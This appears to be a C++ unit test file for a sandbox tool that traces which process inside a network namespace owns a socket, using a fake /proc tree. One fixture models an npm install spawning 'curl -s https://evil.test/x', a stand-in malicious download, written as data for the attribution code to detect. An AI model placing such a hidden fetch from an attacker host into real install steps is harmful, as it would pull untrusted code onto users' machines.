// The /proc walk against a fake /proc tree: namespaces are plain files (two pids share a
// namespace when their ns/net links point at the same file), fds are dangling symlinks.
#include "attribution/proc_scan.hpp"

#include <doctest/doctest.h>

#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <random>
#include <string>

namespace at = airlock::attribution;
namespace proc = airlock::attribution::proc;
namespace fs = std::filesystem;
using namespace std::string_literals;

namespace {

class fake_proc {
 public:
  fake_proc() {
    std::random_device rd;
    root_ = fs::temp_directory_path() / ("airlock-fake-proc-" + std::to_string(rd()));
    fs::create_directories(root_);
    for (const char* ns : {"ns_sandbox", "ns_host"}) std::ofstream(root_ / ns) << ns;
  }
  ~fake_proc() {
    std::error_code ec;
    fs::remove_all(root_, ec);
  }
  fake_proc(const fake_proc&) = delete;
  fake_proc& operator=(const fake_proc&) = delete;

  std::string root() const { return root_.string(); }

  // Adds process `pid` with parent `ppid` in namespace `ns`, holding the given socket inodes.
  void add(int pid, int ppid, const std::string& comm, const std::string& cmdline, const char* ns,
           std::initializer_list<unsigned> sockets = {}, unsigned long start = 1000) {
    const auto dir = root_ / std::to_string(pid);
    fs::create_directories(dir / "fd");
    fs::create_directories(dir / "ns");
    std::ofstream(dir / "stat") << pid << " (" << comm << ") S " << ppid
                                << " 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 " << start << " 23 24\n";
    std::ofstream(dir / "cmdline", std::ios::binary) << cmdline;
    fs::create_symlink(root_ / ns, dir / "ns" / "net");
    int fd = 0;
    fs::create_symlink("/dev/null", dir / "fd" / std::to_string(fd++));
    fs::create_symlink("pipe:[4]", dir / "fd" / std::to_string(fd++));
    for (unsigned inode : sockets)
      fs::create_symlink("socket:[" + std::to_string(inode) + "]", dir / "fd" / std::to_string(fd++));
  }

  proc::ns_id ns(const char* name) const {
    struct stat st {};
    REQUIRE(::stat((root_ / name).c_str(), &st) == 0);
    return {static_cast<std::uint64_t>(st.st_dev), static_cast<std::uint64_t>(st.st_ino)};
  }

 private:
  fs::path root_;
};

}  // namespace

TEST_CASE("scanner: npm install -> sh -> node -> curl, stopping at the namespace's edge") {
  fake_proc p;
  p.add(900, 1, "airlock", "airlock\0run\0--\0npm\0install\0"s, "ns_host");
  p.add(4201, 900, "npm install", "npm install\0"s, "ns_sandbox");
  p.add(4230, 4201, "sh", "sh\0-c\0node x.js\0"s, "ns_sandbox");
  p.add(4240, 4230, "node", "node\0x.js\0"s, "ns_sandbox");
  p.add(4242, 4240, "curl", "curl\0-s\0https://evil.test/x\0"s, "ns_sandbox", {175309});
  p.add(5000, 1, "other", "other\0"s, "ns_host", {175310});
  const proc::scanner s(p.root());
  const auto sandbox = p.ns("ns_sandbox");

  CHECK(s.netns_of(4242) == sandbox);
  CHECK(s.netns_of(900) == p.ns("ns_host"));
  CHECK_FALSE(s.netns_of(12345).has_value());

  const auto owner = s.socket_owner(175309, sandbox);
  REQUIRE(owner.has_value());
  CHECK(*owner == 4242);

  const auto chain = s.parent_chain(*owner, sandbox);
  REQUIRE(chain.size() == 4);
  CHECK(chain[0] == at::process_info{4242, "curl", "curl -s https://evil.test/x"});
  CHECK(chain[1] == at::process_info{4240, "node", "node x.js"});
  CHECK(chain[2] == at::process_info{4230, "sh", "sh -c node x.js"});
  CHECK(chain[3] == at::process_info{4201, "npm install", "npm install"});
}

TEST_CASE("scanner: only the sandbox's processes are searched") {
  fake_proc p;
  p.add(10, 1, "host", "host\0"s, "ns_host", {777});
  p.add(20, 1, "sbx", "sbx\0"s, "ns_sandbox", {888});
  const proc::scanner s(p.root());
  CHECK_FALSE(s.socket_owner(777, p.ns("ns_sandbox")).has_value());
  CHECK(s.socket_owner(888, p.ns("ns_sandbox")) == 20);
  CHECK_FALSE(s.socket_owner(999, p.ns("ns_sandbox")).has_value());
  CHECK(s.parent_chain(10, p.ns("ns_sandbox")).empty());    // outside: not even the first entry
  CHECK(s.parent_chain(4242, p.ns("ns_sandbox")).empty());  // gone
}

TEST_CASE("scanner: a socket inherited across fork goes to the newest holder") {
  fake_proc p;
  p.add(30, 1, "parent", "parent\0"s, "ns_sandbox", {555}, 1000);
  p.add(31, 30, "child", "child\0"s, "ns_sandbox", {555}, 2000);
  p.add(29, 1, "older", "older\0"s, "ns_sandbox", {555}, 500);
  const proc::scanner s(p.root());
  CHECK(s.socket_owner(555, p.ns("ns_sandbox")) == 31);
}

TEST_CASE("scanner: the chain stops at pid 1, at 8 entries, and on a loop") {
  fake_proc p;
  p.add(1, 0, "init", "init\0"s, "ns_sandbox");
  p.add(2, 1, "first", "first\0"s, "ns_sandbox");
  CHECK(proc::scanner(p.root()).parent_chain(2, p.ns("ns_sandbox")).size() == 1);

  for (int pid = 100; pid < 112; ++pid)
    p.add(pid, pid == 100 ? 2 : pid - 1, "p" + std::to_string(pid), "", "ns_sandbox");
  const auto deep = proc::scanner(p.root()).parent_chain(111, p.ns("ns_sandbox"));
  REQUIRE(deep.size() == at::max_chain);
  CHECK(deep.front().pid == 111);
  CHECK(deep.back().pid == 104);
  CHECK(deep.front().cmdline.empty());  // a kernel thread or zombie has no argv

  // A pid reused while walking could make a cycle; the walk must end.
  p.add(200, 201, "a", "a\0"s, "ns_sandbox");
  p.add(201, 200, "b", "b\0"s, "ns_sandbox");
  CHECK(proc::scanner(p.root()).parent_chain(200, p.ns("ns_sandbox")).size() == 2);
}

TEST_CASE("scanner: an unreadable stat ends the chain where it is") {
  fake_proc p;
  p.add(40, 41, "child", "child\0"s, "ns_sandbox", {444});
  p.add(41, 1, "parent", "parent\0"s, "ns_sandbox");
  std::ofstream(fs::path(p.root()) / "41" / "stat") << "41 garbage";
  const auto chain = proc::scanner(p.root()).parent_chain(40, p.ns("ns_sandbox"));
  REQUIRE(chain.size() == 1);
  CHECK(chain[0].pid == 40);
}

TEST_CASE("scanner: a stat naming another pid is not trusted") {
  fake_proc p;
  p.add(50, 1, "x", "x\0"s, "ns_sandbox");
  std::ofstream(fs::path(p.root()) / "50" / "stat")
      << "51 (x) S 1 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 1000 23\n";
  CHECK(proc::scanner(p.root()).parent_chain(50, p.ns("ns_sandbox")).empty());
}
